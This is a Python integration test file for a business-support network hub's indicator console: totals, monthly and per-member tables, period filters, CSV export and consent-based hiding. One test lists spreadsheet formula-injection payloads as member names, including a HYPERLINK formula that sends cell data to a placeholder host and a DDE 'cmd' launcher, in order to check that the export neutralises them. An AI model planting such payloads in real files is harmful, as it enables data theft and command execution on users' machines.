"""The network indicators on both databases, each figure checked against a count made
independently from the fiches pushed (demo population: a PFIL's porteurs at the
financing stage or beyond carry an honour loan)."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from capactif_demo.population import Population
from hub.services.accounts.auth import Caller
from hub.services.console.indicators import Period, network_indicators
from hub.services.ingest import accept as ingest
from hub.services.ingest import processing
from tests.factories import ALL_PURPOSES, record_consents

pytestmark = pytest.mark.integration
PUSHERS = {"pfil-livradois-forez": ("pfil", "financement"),
           "cci-puy-de-dome": ("cci", "accompagnement")}


def _pushed_by_each(coordination: dict, seed: int, prefix: str,
                    made: Callable[[dict, int], dict] = lambda fiche, _n: fiche) -> dict:
    """The world with twelve fiches of each of PUSHERS pushed, processed and consented for
    every purpose (`made` from the population's n-th fiche), under "fiches"."""
    hub, population, fiches = coordination["hub"], Population(seed=seed), []
    for member, (kind, role) in PUSHERS.items():
        own = [made(population.fiche(member, f"{prefix}-{member}-{n}"), n) for n in range(12)]
        record_consents(hub, own, finalites=ALL_PURPOSES)
        assert ingest.push_batch(hub, Caller(member, "", kind, role), own)["accepted"] == 12
        for published in list(hub.publisher.published):
            processing.process_outbox(hub, published)
        fiches += own
    return {**coordination, "fiches": fiches}


@pytest.fixture
def pushed(coordination):
    return _pushed_by_each(coordination, 7, "F-IND")


def _financed_by_pfil(fiche: dict) -> bool:
    pfil = fiche["membre"].startswith("pfil-")
    return (pfil and (fiche.get("financement") or {}).get("pret_honneur", 0) > 0) or any(
        s["type"] == "financement" and s["structure"].startswith("pfil-")
        for s in fiche["accompagnement"])


def test_every_total_matches_an_independent_count_of_the_fiches(pushed):
    hub, session, fiches = pushed["hub"], pushed["session"], pushed["fiches"]
    totals = network_indicators(hub, session)["totaux"]
    world = 7  # the console world's porteurs the coordination counts (Nadia, Hugo out;
    # the duplicate pair counted twice until merged)
    financed = sum(1 for f in fiches if _financed_by_pfil(f))
    assert financed > 0  # the demo's PFIL grants honour loans
    assert totals["finances_pfil"] == financed + 1  # + Sophie, financed in the world
    installed = sum(1 for f in fiches if f["projet"]["stade"] in ("installe", "post_creation"))
    assert totals["installations"] == installed + 2  # + Sophie and Julie
    assert totals["suivis"] == len(fiches) + world
    assert totals["avec_referent"] == len(fiches) + world - 1  # Élodie has none


def test_the_monthly_table_has_every_month_between_the_first_and_the_last(pushed):
    months = [row["cle"] for row in network_indicators(pushed["hub"], pushed["session"])[
        "par_mois"]]
    assert months == sorted(months) and len(months) == len(set(months))
    first, last = months[0], months[-1]
    span = (int(last[:4]) - int(first[:4])) * 12 + int(last[5:]) - int(first[5:]) + 1
    assert len(months) == span  # Julie's first contact 400 days ago: gaps are filled


def test_each_table_exports_as_a_csv_with_a_bom_and_french_headers(pushed):
    from fastapi.testclient import TestClient

    from hub.api.app import create_app
    from tests.console_world import PASSWORDS

    with TestClient(create_app(hub=pushed["hub"]), base_url="https://127.0.0.1") as client:
        page = client.get("/console/connexion").text
        token = page.split('name="csrf" value="')[1].split('"')[0]
        client.post("/console/connexion", data={"csrf": token, "login": "coord",
                                                "password": PASSWORDS["coord"]})
        by_month = client.get("/console/coordination/indicateurs.csv?tableau=mois")
        by_member = client.get("/console/coordination/indicateurs.csv?tableau=membre")
        wrong = client.get("/console/coordination/indicateurs.csv?tableau=autre")
    assert by_month.status_code == 200 and by_month.content.startswith(b"\xef\xbb\xbf")
    lines = by_month.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "Mois;Projets suivis;Avec un référent;Installations;Financés par une PFIL"
    totals = network_indicators(pushed["hub"], pushed["session"])["totaux"]
    assert sum(int(line.split(";")[4]) for line in lines[1:]) == totals["finances_pfil"]
    assert "Initiative Livradois-Forez" in by_member.content.decode("utf-8-sig")
    assert wrong.status_code == 400


def _first_met_in(fiche: dict, month: str) -> dict:
    """The fiche with every support step dated in `month` (its first contact)."""
    steps = [{**step, "date": f"{month}-{1 + n:02d}"}
             for n, step in enumerate(fiche["accompagnement"])]
    return {**fiche, "accompagnement": steps}


@pytest.fixture
def dated(coordination):
    """Two fiches first met in each month of 2025 (the console world's porteurs were
    all met within the last 400 days, after 2025's first semester)."""
    return _pushed_by_each(coordination, 11, "F-SEM",
                           lambda fiche, n: _first_met_in(fiche, f"2025-{n + 1:02d}"))


@pytest.mark.parametrize(("period", "months"), [
    (Period.parse(semester="2025-S1"), {f"2025-{m:02d}" for m in range(1, 7)}),
    (Period.parse(first="2025-03", last="2025-04"), {"2025-03", "2025-04"}),
])
def test_a_period_counts_the_porteurs_first_met_in_it(dated, period, months):
    chosen = [f for f in dated["fiches"] if f["accompagnement"][0]["date"][:7] in months]
    found = network_indicators(dated["hub"], dated["session"], period)
    installed = sum(1 for f in chosen if f["projet"]["stade"] in ("installe", "post_creation")
                    or any(s["type"] in ("installation", "suivi_post_creation")
                           for s in f["accompagnement"]))
    assert found["totaux"] == {
        "suivis": len(chosen), "installations": installed,
        "finances_pfil": sum(1 for f in chosen if _financed_by_pfil(f)),
        "avec_referent": sum(1 for f in chosen if any(s.get("referent")
                                                      for s in f["accompagnement"]))}
    assert [row["cle"] for row in found["par_mois"]] == sorted(months)  # every month shown
    by_member = {row["cle"]: row["suivis"] for row in found["par_membre"]}
    assert by_member["pfil-livradois-forez"] == sum(
        1 for f in chosen if "pfil-livradois-forez" in
        {f["membre"], *[s["structure"] for s in f["accompagnement"]]})


def test_the_semesters_offered_run_from_the_first_month_met_to_the_last(dated):
    offered = network_indicators(dated["hub"], dated["session"])["semestres"]
    today = dated["hub"].clock().date()
    assert offered[0] == f"{today.year}-S{1 if today.month <= 6 else 2}"
    assert offered[-1] == "2025-S1" and len(offered) == len(set(offered))


@pytest.mark.parametrize("query", ["semestre=2025-S3", "du=2025-13", "du=2025-05&au=2025-02"])
def test_a_wrong_period_is_a_clear_400(coordination, query):
    from fastapi.testclient import TestClient

    from hub.api.app import create_app
    from tests.console_world import PASSWORDS

    with TestClient(create_app(hub=coordination["hub"]), base_url="https://127.0.0.1") as client:
        page = client.get("/console/connexion").text
        token = page.split('name="csrf" value="')[1].split('"')[0]
        client.post("/console/connexion", data={"csrf": token, "login": "coord",
                                                "password": PASSWORDS["coord"]})
        answer = client.get(f"/console/coordination/indicateurs?{query}")
    assert answer.status_code == 400
    assert "AAAA" in answer.text or "après" in answer.text


FORMULA_NAMES = {  # names a network file may give, each read by a spreadsheet as a formula
    "pfil-livradois-forez": '=HYPERLINK("https://exemple.invalid/?"&A1;"Initiative")',
    "cci-puy-de-dome": "+33 CCI du Puy-de-Dôme",
    "commune-ambert": "-Mairie d'Ambert",
    "chambre-agriculture-63": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pnr-livradois-forez": "\tParc; naturel",
}


def test_a_member_name_a_spreadsheet_would_run_as_a_formula_is_exported_inert(
        pushed, tmp_path):
    """Excel and LibreOffice run a cell starting with = + - @ (or a tab, a carriage
    return) as a formula: each such name is exported behind an apostrophe, which the
    spreadsheet shows as text, in a file still UTF-8 with a BOM and `;`-separated."""
    import csv
    import io
    import json

    from fastapi.testclient import TestClient

    from hub.api.app import create_app
    from hub.services.accounts.members import load_network
    from tests.console_world import MEMBERS, PASSWORDS

    network = tmp_path / "renamed.json"
    network.write_text(json.dumps({"reseau": "Réseau de test", "membres": [
        {"id": i, "nom": FORMULA_NAMES[i], "nature": k, "role": r,
         "contact": {"courriel": f"{i}@exemple.fr"}} for i, _, k, r in MEMBERS]}),
        encoding="utf-8")
    load_network(pushed["hub"], network, tmp_path / "credentials")
    with TestClient(create_app(hub=pushed["hub"]), base_url="https://127.0.0.1") as client:
        page = client.get("/console/connexion").text
        token = page.split('name="csrf" value="')[1].split('"')[0]
        client.post("/console/connexion", data={"csrf": token, "login": "coord",
                                                "password": PASSWORDS["coord"]})
        answer = client.get("/console/coordination/indicateurs.csv?tableau=membre")
    assert answer.status_code == 200 and answer.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    assert rows[0][0] == "Membre" and all(len(row) == 5 for row in rows)
    names = [row[0] for row in rows[1:]]
    shown = [name for name in FORMULA_NAMES.values() if "'" + name in names]
    assert shown, names  # the members counted in the table, each under its name
    assert not [name for name in names if name[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(name.startswith("'") and name[1:] in FORMULA_NAMES.values() for name in names)


def _one_pushed(world: dict, fiche_id: str, **terms) -> None:
    hub, member = world["hub"], "cci-puy-de-dome"
    fiche = Population(seed=11).fiche(member, fiche_id)
    record_consents(hub, [fiche], **terms)
    assert ingest.push_batch(hub, Caller(member, "", "cci", "accompagnement"),
                             [fiche])["accepted"] == 1
    for published in list(hub.publisher.published):
        processing.process_outbox(hub, published)


def test_a_porteur_hidden_from_the_coordination_is_not_even_counted_as_left_out(pushed):
    """The count of porteurs left out of the statistics says no more than the coordination
    may see: a porteur whose consent leaves the coordination out (whatever its purposes)
    changes no figure of the page, so the page never tells that a hidden person arrived;
    one it sees whose consent excludes statistics is counted as left out."""
    hub, session = pushed["hub"], pushed["session"]
    before = network_indicators(hub, session)
    _one_pushed(pushed, "F-IND-HIDDEN", roles_destinataires=["accueil", "accompagnement",
                                                              "financement"])
    hidden = network_indicators(hub, session)
    assert hidden["hors_statistiques"] == before["hors_statistiques"]
    assert hidden["totaux"] == before["totaux"]
    _one_pushed(pushed, "F-IND-NOSTATS",
                finalites=["orientation", "accompagnement", "financement"])
    assert network_indicators(hub, session)["hors_statistiques"] == \
        before["hors_statistiques"] + 1
